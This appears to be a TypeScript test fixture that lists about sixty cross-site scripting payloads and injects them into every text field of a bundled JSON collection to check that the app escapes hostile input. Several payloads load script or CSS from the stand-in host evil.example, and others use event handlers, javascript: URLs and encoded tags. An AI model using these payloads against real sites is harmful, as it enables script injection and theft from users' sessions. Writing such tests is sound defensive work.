// What somebody writes into a file to have it run in another's page. Each calls `pwned`, or would leave an element.

const CALLS = [
  '<script>pwned()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=pwned()>',
  '<img src=x onerror="pwned()" />',
  '<IMG SRC=x OnErRoR=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwned()"><text x=20 y=20>x</text></a></svg>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<a href="javascript:pwned()">read on</a>',
  '<a href="data:text/html,<script>pwned()</script>">x</a>',
  '<form action="javascript:pwned()"><button>x</button></form>',
  '<button formaction="javascript:pwned()" form=x>x</button>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()></select>',
  '<textarea autofocus onfocus=pwned()></textarea>',
  '<video src=x onerror=pwned()></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<details open ontoggle=pwned()>x</details>',
  '<marquee onstart=pwned()>x</marquee>',
  '<body onload=pwned()>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url(javascript:pwned())}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<base href=//evil.example/>',
  '<math><mi xlink:href="javascript:pwned()">x</mi></math>',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<p style="animation-name:x" onanimationstart=pwned()>x</p>',
  '"><script>pwned()</script>',
  "'><script>pwned()</script>",
  '" onmouseover="pwned()',
  "' onmouseover='pwned()",
  '" autofocus onfocus="pwned()" x="',
  '</script><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '<!--<script>pwned()</script>-->',
  ']]><script>pwned()</script>',
  '<![CDATA[<script>pwned()</script>]]>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '%3Cscript%3Epwned()%3C/script%3E',
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  'java\tscript:pwned()',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  '{{constructor.constructor("pwned()")()}}',
  '$' + '{pwned()}',
  '=HYPERLINK("javascript:pwned()")',
  '<xss id=x tabindex=1 onfocus=pwned()></xss>',
  '<img src="x` `<script>pwned()</script>"` `>',
]

export const PAYLOADS: readonly string[] = CALLS

/** The bundled collection's file with payloads in its texts: one in each record, another in each field. */
export function hostileFile(bundled: string): string {
  const file = JSON.parse(bundled)
  let n = 0
  const next = () => PAYLOADS[n++ % PAYLOADS.length] as string
  const put = (record: Record<string, unknown>, ...fields: string[]) => {
    for (const field of fields) if (record[field] !== undefined) record[field] = `${next()} ${n}`
  }
  put(file.collection, 'title', 'description', 'licence')
  file.collection.id = 'hostile'
  file.collection.editors = [next()]
  file.translations = {}
  for (const side of file.sides) put(side, 'name', 'description')
  for (const actor of file.actors) put(actor, 'name', 'role', 'roleNote')
  for (const place of file.places) {
    put(place, 'basis')
    place.names = { en: `${next()} ${n}` }
    place.aliases = [next()]
  }
  for (const article of file.articles) {
    put(article, 'title', 'reliability')
    article.csl = { ...article.csl, URL: next(), 'container-title': next(), author: [{ literal: next() }] }
    put(article.published, 'why', 'label')
  }
  for (const claim of file.claims) {
    put(claim, 'text', 'short', 'quote')
    for (const hop of claim.attribution) {
      put(hop, 'verb')
      for (const hedge of hop.hedges) put(hedge, 'printed')
    }
    put(claim.said, 'why', 'label')
    put(claim.about, 'why', 'label')
    for (const quantity of claim.quantities ?? []) put(quantity, 'printed', 'unit')
    if (claim.garbled) put(claim.garbled, 'printed', 'likely', 'why')
  }
  for (const relation of file.relations) put(relation, 'why')
  for (const topic of file.topics) {
    put(topic, 'title', 'question', 'standfirst', 'why')
    for (const rung of topic.rungs ?? []) put(rung, 'label')
    if (topic.scale) put(topic.scale, 'from', 'to', 'of', 'caption')
  }
  for (const note of file.notes) put(note, 'printed', 'likely', 'why')
  for (const scene of file.scenes) {
    put(scene, 'title', 'question', 'notice', 'notes')
    for (const step of scene.steps) put(step, 'text')
  }
  return JSON.stringify(file)
}
